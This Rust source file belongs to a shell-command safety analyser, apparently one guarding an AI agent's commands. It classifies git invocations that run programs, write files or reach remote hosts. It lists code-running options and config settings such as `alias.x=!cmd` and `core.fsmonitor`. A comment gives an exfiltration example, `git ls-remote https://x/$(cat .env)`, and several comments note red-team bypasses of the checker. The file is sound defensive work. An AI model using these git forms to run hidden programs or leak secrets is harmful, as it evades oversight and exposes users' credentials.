//! git's grammar, as the program table reads it: global options before the subcommand,
//! subcommands that are aliases or external programs, options that run programs or name
//! files git writes, and `git config` settings that make git run a program later.
//!
//! git's own option parser accepts any unambiguous prefix of a subcommand's long option
//! (`--conf` for `--config`): every option here is matched that way, and an unknown
//! global option, whose value could be taken for the subcommand, is refused.

use super::ShellArg;
use super::finding::Finding;
use super::scan::abbreviates;
use super::word::Word;

mod config;
pub(super) mod work_tree;

use work_tree::WorkTree;

/// Whether `sub` is one of git's own subcommands, not an alias or a `git-NAME` program.
pub fn is_git_subcommand(sub: &str) -> bool {
    GIT_SUBCOMMANDS.contains(&sub)
}

/// git subcommands, for telling an alias or an external `git-NAME` program apart.
const GIT_SUBCOMMANDS: &[&str] = &[
    // Readers that print what they compute and write nothing (red team round 20, FP4:
    // they were taken for aliases).
    "check-attr",
    "check-mailmap",
    "check-ref-format",
    "column",
    "fmt-merge-msg",
    "get-tar-commit-id",
    "patch-id",
    "show-index",
    "stripspace",
    // Bookkeeping inside the repository, as `gc` is.
    "rerere",
    "pack-refs",
    "add",
    "am",
    "annotate",
    "apply",
    "archive",
    "bisect",
    "blame",
    "branch",
    "bundle",
    "cat-file",
    "check-ignore",
    "checkout",
    "cherry",
    "cherry-pick",
    "clean",
    "clone",
    "commit",
    "config",
    "count-objects",
    "describe",
    "diff",
    "diff-files",
    "diff-index",
    "diff-tree",
    "difftool",
    "fetch",
    "format-patch",
    "fsck",
    "gc",
    "grep",
    "hash-object",
    "help",
    "init",
    "log",
    "ls-files",
    "ls-remote",
    "ls-tree",
    "merge",
    "merge-base",
    "mergetool",
    "mv",
    "name-rev",
    "notes",
    "pull",
    "push",
    "range-diff",
    "rebase",
    "reflog",
    "remote",
    "repack",
    "replace",
    "reset",
    "restore",
    "rev-list",
    "rev-parse",
    "revert",
    "rm",
    "send-email",
    "shortlog",
    "show",
    "show-branch",
    "show-ref",
    "sparse-checkout",
    "stash",
    "status",
    "submodule",
    "switch",
    "tag",
    "update-index",
    "update-ref",
    "var",
    "verify-commit",
    "verify-tag",
    "version",
    "whatchanged",
    "worktree",
    "filter-branch",
    "instaweb",
    "daemon",
    "hook",
    "maintenance",
    "credential",
    "for-each-ref",
    "symbolic-ref",
    "write-tree",
    "read-tree",
    "commit-tree",
    "mktag",
    "prune",
    "request-pull",
    "shortlog",
    "stage",
    "citool",
    "gui",
    "gitk",
    "init-db",
    "interpret-trailers",
    "mailinfo",
    "merge-file",
    "merge-tree",
    "pack-objects",
    "unpack-objects",
    "verify-pack",
];

/// Options of git subcommands that run a program: (subcommand, options).
const GIT_CODE_OPTIONS: &[(&str, &[&str])] = &[
    ("clone", &["--upload-pack", "-u", "--template"]),
    ("fetch", &["--upload-pack"]),
    ("pull", &["--upload-pack"]),
    // `--exec` is a hidden alias of `--upload-pack` (red team round 31, shell F5).
    ("ls-remote", &["--upload-pack", "--exec"]),
    ("fetch-pack", &["--upload-pack", "--exec"]),
    ("push", &["--receive-pack", "--exec"]),
    ("send-pack", &["--receive-pack", "--exec"]),
    ("archive", &["--exec"]),
    ("rebase", &["--exec", "-x"]),
    ("difftool", &["--extcmd", "-x", "--tool", "-t"]),
    ("mergetool", &["--tool", "-t"]),
    ("grep", &["--open-files-in-pager", "-O"]),
    ("init", &["--template"]),
    ("send-email", &["--to-cmd", "--cc-cmd", "--sendmail-cmd", "--smtp-server", "--header-cmd"]),
];

/// Stands for the file an option made by a glob writes (`--output=NAME`, a name in git's
/// directory): it is checked as a file there.
const RUNTIME_OPTION_FILE: &str = "aecl-name-matched-by-a-glob";

/// Subcommands that take diff options, among them `--output=FILE` (and `--ext-diff`,
/// which runs the configured diff program).
const DIFF_OPTION_COMMANDS: [&str; 12] = [
    "log",
    "diff",
    "show",
    "format-patch",
    "whatchanged",
    "diff-tree",
    "diff-files",
    "diff-index",
    "range-diff",
    "stash",
    "reflog",
    "cherry",
];

/// Options whose value git writes to: (subcommand, options).
/// (`--output`, which every command taking diff options has, is read for all of them.)
const GIT_WRITE_OPTIONS: &[(&str, &[&str])] = &[
    ("format-patch", &["-o", "--output-directory"]),
    ("archive", &["-o"]),
    ("clone", &["--separate-git-dir"]),
    ("init", &["--separate-git-dir"]),
];

/// git's global options that take no value.
const GLOBAL_FLAGS: [&str; 22] = [
    "--bare",
    "--no-pager",
    "-p",
    "--paginate",
    "-P",
    "--no-replace-objects",
    "--no-lazy-fetch",
    "--literal-pathspecs",
    "--glob-pathspecs",
    "--noglob-pathspecs",
    "--icase-pathspecs",
    "--no-optional-locks",
    "--no-advice",
    "--help",
    "-h",
    "--version",
    "-v",
    "--html-path",
    "--man-path",
    "--info-path",
    // Without `=DIR` it prints the directory; with it, `unwrap.rs` reports it.
    "--exec-path",
    "--list-cmds",
];

/// git's global options that take a value (`-C DIR`, `--git-dir=DIR`).
const GLOBAL_VALUES: [&str; 8] = [
    "-C",
    "-c",
    "--git-dir",
    "--work-tree",
    "--namespace",
    "--super-prefix",
    "--config-env",
    "--attr-source",
];

/// One global option before the subcommand: its name, its value if it takes one.
struct GlobalOption<'w> {
    word: &'w ShellArg,
    name: String,
    value: Option<ShellArg>,
}

/// The global options before the subcommand, and the subcommand's index; `Err` with the
/// first option git does not know (its value, if it takes one, would be read as the
/// subcommand).
fn global_options(words: &[ShellArg]) -> Result<(Vec<GlobalOption<'_>>, usize), &ShellArg> {
    let mut options = Vec::new();
    let mut i = 0;
    while let Some(word) = words.get(i) {
        if !word.is_known() || !word.text.starts_with('-') {
            break;
        }
        i += 1;
        let (name, attached) = word
            .text
            .split_once('=')
            .map_or((word.text.as_str(), None), |(n, v)| (n, Some(v.to_owned())));
        if GLOBAL_FLAGS.contains(&name) {
            continue;
        }
        if !GLOBAL_VALUES.contains(&name) {
            return Err(word);
        }
        let value = match attached {
            Some(text) => Some(ShellArg { text, ..word.clone() }),
            None => {
                i += 1;
                words.get(i - 1).cloned()
            }
        };
        options.push(GlobalOption { word, name: name.to_owned(), value });
    }
    Ok((options, i))
}

/// git subcommands that reach other hosts besides [`REMOTE_COMMANDS`]: what is given to
/// them leaves the machine.
const OTHER_NETWORK_SUBCOMMANDS: [&str; 8] =
    ["send-email", "request-pull", "imap-send", "lfs", "svn", "p4", "http-fetch", "http-push"];

/// Whether `git WORDS` may reach other hosts: a subcommand that does, or one git cannot
/// tell before it runs (an unknown option, a subcommand only known at run time, an alias
/// or an external `git-NAME` program).
pub(super) fn reaches_network(words: &[ShellArg]) -> bool {
    let Ok((_, i)) = global_options(words) else { return true };
    let Some(word) = words.get(i) else { return false };
    let sub = word.text.as_str();
    if !word.is_known() || !GIT_SUBCOMMANDS.contains(&sub) {
        return true;
    }
    let rest = words.get(i + 1..).unwrap_or_default();
    let action = rest.iter().find(|w| !(w.is_known() && w.text.starts_with('-')));
    let action =
        |names: &[&str]| action.is_some_and(|a| !a.is_known() || names.contains(&a.text.as_str()));
    match sub {
        // `git remote -v`, `get-url`, `add` (without `-f`), `submodule status`, a local
        // `archive`: the repository's own files and configuration only.
        "remote" => {
            action(&["update", "show", "prune", "set-head"])
                || rest.iter().any(|w| w.text == "-f" || w.text == "--fetch")
        }
        "submodule" => action(&["update", "add", "sync", "foreach"]),
        "archive" => rest.iter().any(|w| w.text.starts_with("--remote")),
        // `git maintenance run` runs the tasks named, or those the configuration enables;
        // its `prefetch` task fetches every remote. Scheduling it does the same later.
        // git takes a task's name in any case and any unambiguous prefix of an option
        // (`--ta prefetch`): only the exact spellings of local tasks are local.
        "maintenance" => {
            const LOCAL_TASKS: [&str; 5] =
                ["gc", "commit-graph", "loose-objects", "incremental-repack", "pack-refs"];
            let mut tasks = 0;
            let mut local = true;
            let mut words = rest.iter().filter(|w| w.text != "run");
            while let Some(word) = words.next() {
                let task = match word.text.strip_prefix("--task=") {
                    Some(task) => Some(task),
                    None if word.text == "--task" => words.next().map(|w| w.text.as_str()),
                    None => None,
                };
                let known = word.is_known();
                match task {
                    Some(task) if known && LOCAL_TASKS.contains(&task) => tasks += 1,
                    None if known && matches!(word.text.as_str(), "--quiet" | "--no-quiet") => {}
                    _ => local = false,
                }
            }
            action(&["run", "start", "register"]) && !(local && tasks > 0)
        }
        _ => REMOTE_COMMANDS.contains(&sub) || OTHER_NETWORK_SUBCOMMANDS.contains(&sub),
    }
}

/// Adds the findings of `git WORDS`.
pub(super) fn read(words: &[ShellArg], out: &mut Vec<Finding>) {
    let (options, i) = match global_options(words) {
        Ok(found) => found,
        Err(word) => {
            out.push(Finding::RunsCode(format!("the git option `{}` is not known", word.raw)));
            return;
        }
    };
    let mut directory: Option<ShellArg> = None;
    for GlobalOption { word, name, value } in options {
        match name.as_str() {
            "-C" => directory = value,
            // Another repository's configuration can make any command run programs
            // (`core.fsmonitor`), and files are checked out into another work tree.
            "--git-dir" => out.push(Finding::RunsCode(format!(
                "`{}` reads another repository's configuration, which can run programs",
                word.raw
            ))),
            "--work-tree" => out.extend(value.map(Finding::Writes)),
            _ => {}
        }
    }
    if words.iter().any(|w| w.text.starts_with("ext::") || w.text.starts_with("fd::")) {
        out.push(Finding::RunsCode("the `ext::` transport runs a command".to_owned()));
    }
    let Some(sub) = words.get(i) else { return };
    if !sub.is_known() {
        // Reported as dynamic by the analyser when it is before the subcommand.
        out.push(Finding::RunsCode(format!(
            "the subcommand `{}` is only known at run time",
            sub.raw
        )));
        return;
    }
    let sub = sub.text.as_str();
    let rest = words.get(i + 1..).unwrap_or_default();
    let write = |target: ShellArg| match &directory {
        Some(dir) if !target.text.starts_with('/') => Finding::WritesUnder(target, dir.clone()),
        _ => Finding::Writes(target),
    };
    if !GIT_SUBCOMMANDS.contains(&sub) {
        out.push(Finding::RunsCode(format!(
            "`git {sub}` is not a git command: an alias or a `git-{sub}` program, which can run anything"
        )));
        return;
    }
    for (name, options) in GIT_CODE_OPTIONS.iter().filter(|(s, _)| *s == sub) {
        for word in rest {
            if let Some(option) = git_option(word, options) {
                out.push(Finding::RunsCode(format!("`git {name} {option}`")));
            }
        }
    }
    // A glob or brace that may turn into options (matching a file named `-Osh` or
    // `--output=x`), before `--`, may be any option of the subcommand. (An expansion is
    // judged by the remote and refspec rules below: `git push origin "$BRANCH"`.)
    let options_end =
        rest.iter().position(|w| w.is_known() && w.text == "--").unwrap_or(rest.len());
    let before_end = rest.get(..options_end).unwrap_or_default();
    if let Some(at) = before_end.iter().position(|w| w.pattern && w.may_be_option()) {
        let raw = before_end.get(at).map_or("", |w| w.raw.as_str());
        if GIT_CODE_OPTIONS.iter().any(|(s, _)| *s == sub) {
            out.push(Finding::RunsCode(format!(
                "`{raw}` may be any option of `git {sub}` at run time, one that runs a program"
            )));
        }
        if DIFF_OPTION_COMMANDS.contains(&sub) || GIT_WRITE_OPTIONS.iter().any(|(s, _)| *s == sub) {
            // A file name holds no `/`: an option a glob makes (`--output=x`) writes a
            // name in git's directory; one that takes the next word (`--output`) writes
            // where any later word says.
            out.push(write(ShellArg::known(RUNTIME_OPTION_FILE)));
            out.extend(before_end.iter().skip(at + 1).cloned().map(&write));
        }
    }
    // Every command that takes diff options writes `--output=FILE`.
    let listed = GIT_WRITE_OPTIONS.iter().filter(|(s, _)| *s == sub).map(|(_, o)| *o);
    for options in listed.chain([&["--output"][..]]) {
        let mut iter = rest.iter();
        while let Some(word) = iter.next() {
            let Some(option) = git_option(word, options) else { continue };
            // `--output=FILE`, `-oDIR`, or the next word.
            let attached = match word.text.split_once('=') {
                Some((_, value)) if word.text.starts_with("--") => Some(value),
                _ => option
                    .strip_prefix('-')
                    .filter(|letter| letter.len() == 1)
                    .and_then(|letter| word.text.split_once(letter))
                    .map(|(_, value)| value)
                    .filter(|value| !value.is_empty()),
            };
            match attached {
                Some(value) => out.push(write(ShellArg {
                    text: value.to_owned(),
                    raw: word.raw.clone(),
                    ..word.clone()
                })),
                None => out.extend(iter.next().map(|value| write(value.clone()))),
            }
        }
    }
    let positionals: Vec<&ShellArg> =
        rest.iter().filter(|w| !(w.is_known() && w.text.starts_with('-'))).collect();
    let first = positionals.first().map(|p| p.text.as_str());
    // A command that talks to a remote contacts what its words name: a remote's URL or
    // name built at run time can carry data out in its host or path (`git ls-remote
    // https://x/$(cat .env)`), as a URL built at run time does for curl. A refspec goes
    // to the remote named (`git pull origin "$(git branch --show-current)"`).
    let remote_words: Vec<&ShellArg> = match sub {
        "archive" => rest.iter().filter(|w| w.raw.starts_with("--remote")).collect(),
        // `remote add NAME URL`, `remote set-url NAME URL`, `submodule add URL PATH`.
        "remote" | "submodule" => positionals.clone(),
        _ => positionals
            .first()
            .copied()
            .into_iter()
            .chain(rest.iter().filter(|w| w.raw.contains("://")))
            .collect(),
    };
    if REMOTE_COMMANDS.contains(&sub)
        && let Some(word) = remote_words.into_iter().find(|w| w.expansion)
    {
        out.push(Finding::Uploads(format!(
            "`git {sub}` contacts a remote with `{}`, built at run time",
            word.raw
        )));
    }
    // A command that changes the work tree or the repository writes the directory git
    // works in (the repository is there or above it); `clone`, `init` and `mv` name the
    // paths they write (below).
    if work_tree::work_tree(sub, rest, first) != WorkTree::Untouched
        && !matches!(sub, "clone" | "init" | "mv")
    {
        out.push(Finding::WorkTree(directory.clone()));
    }
    match sub {
        "config" => config::read(rest, out),
        "clone" => {
            // `--config KEY=VALUE` and `-c KEY=VALUE` set configuration like `git -c`.
            let mut iter = rest.iter();
            while let Some(word) = iter.next() {
                let (given, attached) = word
                    .text
                    .split_once('=')
                    .map_or((word.text.as_str(), None), |(n, v)| (n, Some(v)));
                // `--conf`, `--co`: git reads any unambiguous prefix of `--config`.
                let config = given == "-c" || abbreviates(given, "--config");
                let setting = match attached {
                    _ if !config => None,
                    Some(value) => Some(ShellArg { text: value.to_owned(), ..word.clone() }),
                    None => iter.next().cloned(),
                };
                if let Some(setting) = setting {
                    let (key, value) =
                        setting.text.split_once('=').unwrap_or((setting.text.as_str(), ""));
                    if !setting.is_known() || !safe_git_setting(key, value) {
                        out.push(Finding::RunsCode(format!(
                            "`git clone --config {}`",
                            setting.raw
                        )));
                    }
                }
            }
            // The destination is the second positional argument, when value-taking
            // options are not mistaken for it: only plain words after the URL count.
            unprotected_config(rest, out);
            // Without a destination, a directory named after the repository, here.
            let plain: Vec<&ShellArg> = clone_positionals(rest);
            let destination = plain.get(1).map_or_else(|| ShellArg::known("."), |d| (*d).clone());
            out.push(write(destination));
            // That directory's name: the URL's last component without `.git`
            // (`https://x/.claude.git` clones into `.claude`).
            if plain.len() == 1
                && let Some(url) = plain.first()
            {
                out.push(match humanish(url) {
                    Some(name) => write(ShellArg::known(&name)),
                    None => super::archives::run_time(format!("the directory `{}` names", url.raw)),
                });
            }
        }
        "push" | "send-pack" => {
            out.push(Finding::Uploads("`git push` sends commits to a remote".to_owned()));
            // A remote given as a path is a repository on this machine, which the push
            // writes (`.`, this one, is the work tree finding above).
            if let Some(word) = work_tree::push_remote(rest) {
                let path = word.text.strip_prefix("file://").unwrap_or(&word.text);
                let is_path = path.starts_with(['/', '~'])
                    || path == ".."
                    || path.starts_with("./")
                    || path.starts_with("../");
                if is_path && path != "./" {
                    out.push(write(ShellArg { text: path.to_owned(), ..word.clone() }));
                }
            }
        }
        "send-email" | "request-pull" => {
            out.push(Finding::Uploads(format!("`git {sub}` sends mail")))
        }
        "submodule" if positionals.iter().any(|p| p.text == "foreach") => {
            out.push(Finding::RunsCode("`git submodule foreach` runs a command".to_owned()));
        }
        "bisect" if first == Some("run") => {
            out.push(Finding::RunsCode("`git bisect run` runs a command".to_owned()))
        }
        "filter-branch" | "instaweb" | "hook" | "daemon" | "citool" | "gui" | "gitk"
        | "credential" | "mergetool" => {
            out.push(Finding::RunsCode(format!("`git {sub}` runs programs")));
        }
        "worktree" if first == Some("add") => {
            // `add [-b NAME] PATH [COMMIT]`: the first word that is no option's value.
            let words = skip_values(rest, &["-b", "-B", "--reason"]);
            if let Some(path) = words.get(1) {
                out.push(write((*path).clone()));
            }
        }
        // `git mv SRC... DST` moves like `mv`: every path is written.
        "mv" => out.extend(positionals.iter().map(|p| write((*p).clone()))),
        // `--in-place` (or a prefix of it) rewrites the files named.
        "interpret-trailers" if rest.iter().any(|w| abbreviates(&w.text, "--in-place")) => {
            out.extend(positionals.iter().map(|p| write((*p).clone())));
        }
        // These write the user's global configuration and the system scheduler, which
        // then runs git in the repository on its own.
        "maintenance" if matches!(first, Some("register" | "start" | "unregister" | "stop")) => {
            out.push(Finding::RunsCode(format!(
                "`git maintenance {}` changes the user's configuration and schedules git",
                first.unwrap_or_default()
            )));
        }
        // `git merge-file CURRENT BASE OTHER` writes CURRENT (unless `-p`);
        // `git pack-objects BASE` writes `BASE-<hash>.pack` and its index.
        "merge-file" if !rest.iter().any(|w| matches!(w.text.as_str(), "-p" | "--stdout")) => {
            let words = skip_values(rest, &["-L", "--marker-size"]);
            out.extend(words.first().map(|p| write((*p).clone())));
        }
        // `git bundle create FILE REVS`.
        "bundle" if first == Some("create") => {
            let words = skip_values(rest, &["--version"]);
            out.extend(words.get(1).map(|p| write((*p).clone())));
        }
        "pack-objects" => {
            let words = skip_values(rest, &["--window", "--depth", "--threads", "--filter"]);
            out.extend(words.first().map(|p| write((*p).clone())));
        }
        "worktree" if first == Some("move") => {
            out.extend(positionals.get(2).map(|p| write((*p).clone())));
        }
        // `worktree remove PATH` deletes the work tree at PATH.
        "worktree" if first == Some("remove") => {
            out.extend(positionals.get(1).map(|p| write((*p).clone())));
        }
        "init" => {
            let values = [
                "--template",
                "--separate-git-dir",
                "-b",
                "--initial-branch",
                "--object-format",
                "--ref-format",
            ];
            let words = skip_values(rest, &values);
            // Without a directory, the current one (or `-C DIR`).
            let path = words.first().map_or_else(|| ShellArg::known("."), |p| (*p).clone());
            out.push(write(path));
            unprotected_config(rest, out);
        }
        "apply" | "am" => {
            // Unless it only reports, the patch writes the files it names (`.claude/`
            // settings, any file of the tree): names only known at run time, as for
            // `patch`.
            let reports = ["--check", "--stat", "--numstat", "--summary", "--show-files"];
            let reports = sub == "apply"
                && !rest.iter().any(|w| w.text == "--apply")
                && rest.iter().any(|w| reports.contains(&w.text.as_str()));
            let control = ["--abort", "--quit", "--skip", "--show-current-patch"];
            if !reports && !rest.iter().any(|w| control.contains(&w.text.as_str())) {
                out.push(super::archives::run_time(super::PATCHED_FILES.to_owned()));
            }
            if rest.iter().any(|w| git_option(w, &["--unsafe-paths"]).is_some()) {
                // Paths of the patch outside the work tree are written as they are.
                out.push(Finding::Writes(ShellArg::known("/")));
            }
            for word in rest {
                if git_option(word, &["--directory"]).is_some() {
                    let dir = word.text.split_once('=').map(|(_, d)| d.to_owned());
                    out.extend(dir.map(|d| write(ShellArg { text: d, ..word.clone() })));
                }
            }
        }
        // `git mailinfo MSG PATCH` writes both files; `mailsplit -oDIR` into DIR.
        "mailinfo" => out.extend(positionals.iter().take(2).map(|p| write((*p).clone()))),
        "mailsplit" => {
            for word in rest.iter().filter(|w| w.text.starts_with("-o")) {
                let dir = word.text.get(2..).unwrap_or_default().to_owned();
                out.push(write(ShellArg { text: dir, ..word.clone() }));
            }
        }
        "bundle" if first == Some("create") => {
            if let Some(path) = positionals.get(1) {
                out.push(write((*path).clone()));
            }
        }
        _ => {}
    }
}

/// Subcommands that contact a remote named or configured by their words.
const REMOTE_COMMANDS: [&str; 10] = [
    "fetch",
    "pull",
    "ls-remote",
    "clone",
    "remote",
    "submodule",
    "archive",
    "fetch-pack",
    "push",
    "send-pack",
];

/// Positional words of `git clone`, skipping the values of its value-taking options.
fn clone_positionals(rest: &[ShellArg]) -> Vec<&ShellArg> {
    const VALUES: [&str; 23] = [
        "-o",
        "--origin",
        "-b",
        "--branch",
        "--revision",
        "-u",
        "--upload-pack",
        "--reference",
        "--reference-if-able",
        "--depth",
        "--shallow-since",
        "--shallow-exclude",
        "--template",
        "-c",
        "--config",
        "-j",
        "--jobs",
        "--filter",
        "--separate-git-dir",
        "--server-option",
        "--bundle-uri",
        "--ref-format",
        "--object-format",
    ];
    skip_values(rest, &VALUES)
}

/// `git init` or `git clone` with `--bare`, `--mirror` or `--separate-git-dir`: the new
/// repository's `config` is not under a `.git/` directory, where writes to it are refused,
/// so a later write to it can make any git command there run a program
/// (`core.fsmonitor`).
fn unprotected_config(rest: &[ShellArg], out: &mut Vec<Finding>) {
    let option = ["--bare", "--mirror", "--separate-git-dir"]
        .into_iter()
        .find(|o| rest.iter().any(|w| git_option(w, &[o]).is_some()));
    if let Some(option) = option {
        out.push(Finding::RunsCode(format!(
            "`{option}` makes a repository whose configuration lies outside `.git/`, where \
             a later write can make git run a program"
        )));
    }
}

/// The words of `rest` that are neither options nor the value of one of `values`.
fn skip_values<'w>(rest: &'w [ShellArg], values: &[&str]) -> Vec<&'w ShellArg> {
    let mut out = Vec::new();
    let mut iter = rest.iter();
    while let Some(word) = iter.next() {
        if word.is_known() && word.text.starts_with('-') {
            // Only options sure to take a value skip a word: skipping a path would hide it.
            // A short option takes the next word when it ends its cluster (`-qb main`;
            // `-bmain` has its value attached).
            let takes_next = match word.text.strip_prefix("--") {
                Some(_) => !word.text.contains('=') && git_option(word, values).is_some(),
                None => word.text.chars().last().is_some_and(|c| {
                    values.iter().any(|v| v.strip_prefix('-') == Some(c.encode_utf8(&mut [0; 4])))
                }),
            };
            if takes_next {
                iter.next();
            }
            continue;
        }
        out.push(word);
    }
    out
}

/// Whether `word` is one of `options` (short letters in a cluster; long names or the
/// abbreviations git accepts, of at least two letters).
fn git_option(word: &ShellArg, options: &[&str]) -> Option<String> {
    if !word.is_known() {
        return None;
    }
    let text = word.text.as_str();
    if let Some(long) = text.strip_prefix("--") {
        let name = long.split_once('=').map_or(long, |(n, _)| n);
        return options
            .iter()
            .find(|o| {
                o.strip_prefix("--")
                    .is_some_and(|o| o == name || (name.len() >= 2 && o.starts_with(name)))
            })
            .map(|o| (*o).to_owned());
    }
    let cluster = text.strip_prefix('-')?;
    options
        .iter()
        .filter_map(|o| o.strip_prefix('-').filter(|l| l.len() == 1))
        .find(|letter| cluster.contains(*letter))
        .map(|letter| format!("-{letter}"))
}

/// Whether a configuration setting cannot make git run a program.
fn safe_git_setting(key: &str, value: &str) -> bool {
    let key = key.to_lowercase();
    // An editor or a pager that changes or runs nothing (`-c core.editor=true`,
    // `-c core.pager=cat`: red team round 29, FP2).
    let quiet = match key.as_str() {
        "core.editor" | "sequence.editor" => super::variable_values::NO_OP_EDITORS.contains(&value),
        "core.pager" => matches!(value, "cat" | "" | "less"),
        _ => key.starts_with("pager.") && matches!(value, "cat" | "false" | "true" | ""),
    };
    quiet || (SAFE_GIT_SETTINGS.iter().any(|safe| key.starts_with(safe)) && !value.contains('!'))
}

/// Whether `git -c SETTING` (`key=value`) makes git run no program of the caller's
/// choosing and reads the repository as it would without it (the hook's git tree check).
pub fn harmless_git_setting(setting: &str) -> bool {
    let (key, value) = setting.split_once('=').unwrap_or((setting, ""));
    safe_git_setting(key, value) && !key.to_lowercase().starts_with("core.autocrlf")
}

/// `git -c` settings that cannot make git run another program; any other (`alias.*`,
/// `core.pager`, `core.sshCommand`, `diff.external`, ...) can, so it makes git dynamic.
pub(super) const SAFE_GIT_SETTINGS: [&str; 14] = [
    "user.",
    "color.",
    "advice.",
    // Not `init.templateDir`: a template's config and hooks are copied in.
    "init.defaultbranch",
    "log.",
    "safe.directory",
    "pull.rebase",
    "pull.ff",
    "push.default",
    "commit.gpgsign",
    "tag.gpgsign",
    "core.quotepath",
    "core.autocrlf",
    "protocol.version",
];

/// Whether git's global options make it run a program of the caller's choosing:
/// `-c alias.x=!cmd`, `-c core.pager=cmd`, `--exec-path=DIR`, `--config-env`.
pub(super) fn git_runs_configured_program(args: &[&Word]) -> bool {
    let mut iter = args.iter();
    while let Some(word) = iter.next() {
        if word.has_expansion() {
            // Before the subcommand, an unknown word might be `-c alias.x=!cmd`.
            return true;
        }
        let text = word.text();
        let setting = if text == "-c" {
            iter.next().map(|w| if w.has_expansion() { String::new() } else { w.text() })
        } else if let Some(setting) = text.strip_prefix("-c") {
            Some(setting.to_owned())
        } else if text.starts_with("--exec-path=") || text.starts_with("--config-env") {
            return true;
        } else if GLOBAL_VALUES.contains(&text.as_str()) {
            // The one table of git's global options (red team round 20, F3: a list of its
            // own here lacked `--attr-source`, whose value was then read as the
            // subcommand and hid the `-c` after it).
            iter.next();
            None
        } else if GLOBAL_FLAGS.contains(&text.as_str())
            || GLOBAL_VALUES
                .iter()
                .any(|o| text.strip_prefix(o).is_some_and(|v| v.starts_with('=')))
        {
            None
        } else if text.starts_with('-') {
            // An option git does not know: what follows cannot be read.
            return true;
        } else {
            // The subcommand: global options end here.
            return false;
        };
        if let Some(setting) = setting {
            let (key, value) = setting.split_once('=').unwrap_or((setting.as_str(), ""));
            if !safe_git_setting(key, value) {
                return true;
            }
        }
    }
    false
}

/// The directory `git clone URL` makes: the URL's last path component, without a trailing
/// `/`, `/.git` or `.git` (nor `.bundle`); `None` for a URL only known at run time.
fn humanish(url: &ShellArg) -> Option<String> {
    if !url.is_known() {
        return None;
    }
    let mut text = url.text.trim_end_matches('/');
    text = text.strip_suffix("/.git").unwrap_or(text).trim_end_matches('/');
    let last = text.rsplit(['/', ':']).next().unwrap_or(text);
    let last = last.strip_suffix(".git").or_else(|| last.strip_suffix(".bundle")).unwrap_or(last);
    (!last.is_empty()).then(|| last.to_owned())
}
